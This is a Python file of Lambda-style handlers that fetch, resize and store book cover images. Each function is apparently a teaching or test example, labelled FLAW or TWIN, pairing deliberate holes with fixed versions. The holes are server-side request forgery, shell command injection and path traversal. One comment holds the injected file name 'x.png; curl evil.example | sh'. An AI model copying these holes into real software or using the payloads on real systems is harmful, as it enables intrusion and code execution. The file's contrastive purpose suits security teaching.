"""Pictures of books: fetched from publishers, queued, resized, filed."""

import json
import os
import shlex
import subprocess
from urllib.parse import unquote_plus, urlparse

import boto3
import requests

from catalogue.responses import bad_request, ok

TRUSTED_HOSTS = ("covers.example.com", "images.example.org")
WORK = "/tmp/covers/"

s3 = boto3.client("s3")


def fetch_cover(event, context):
    # FLAW server-side-request-forgery: the function goes wherever the caller says, from inside our
    # network: http://169.254.169.254/, the database's port, another team's internal API.
    body = json.loads(event["body"])
    picture = requests.get(body["url"], timeout=5)
    return ok({"bytes": len(picture.content)})


def fetch_trusted_cover(event, context):
    # TWIN: the host must be one of two that we know, before the request is made.
    url = json.loads(event["body"])["url"]
    if urlparse(url).hostname not in TRUSTED_HOSTS:
        return bad_request("not a publisher that we know")
    picture = requests.get(url, timeout=5, allow_redirects=False)
    return ok({"bytes": len(picture.content)})


def resize_cover(event, context):
    # FLAW command-injection: a message in our own queue feels trusted, but its text came from whoever
    # uploaded the book. A file called  x.png; curl evil.example | sh  is a legal file name.
    for record in event["Records"]:
        message = json.loads(record["body"])
        resize(message["file"], message.get("width", 200))


def resize(file, width):
    subprocess.run(f"convert {file} -resize {int(width)} /tmp/small.png", shell=True, check=True)


def rotate_cover(event, context):
    # TWIN: no shell reads the line; every argument stays one argument. `--` ends the options.
    for record in event["Records"]:
        message = json.loads(record["body"])
        angle = str(int(message["angle"]))
        subprocess.run(["rotate", "--angle", angle, "--", message["file"]], check=True)


def describe_cover(event, context):
    # TWIN: where a shell is needed for a pipe, shlex.quote makes the name one word of it.
    for record in event["Records"]:
        name = shlex.quote(json.loads(record["body"])["file"])
        subprocess.run("identify -- " + name + " | head -1", shell=True, check=True)


def unpack_upload(event, context):
    # FLAW path-traversal: an object key may hold `../`, and whoever may upload chooses it. The key
    # `../../var/task/catalogue/x.py` leaves the folder.
    for record in event["Records"]:
        key = unquote_plus(record["s3"]["object"]["key"])
        with open(WORK + key, "wb") as file:
            s3.download_fileobj(record["s3"]["bucket"]["name"], key, file)


def file_upload(event, context):
    # TWIN: only the last part of the key, which holds no separator, names the file.
    for record in event["Records"]:
        key = unquote_plus(record["s3"]["object"]["key"])
        with open(os.path.join(WORK, os.path.basename(key)), "wb") as file:
            s3.download_fileobj(record["s3"]["bucket"]["name"], key, file)
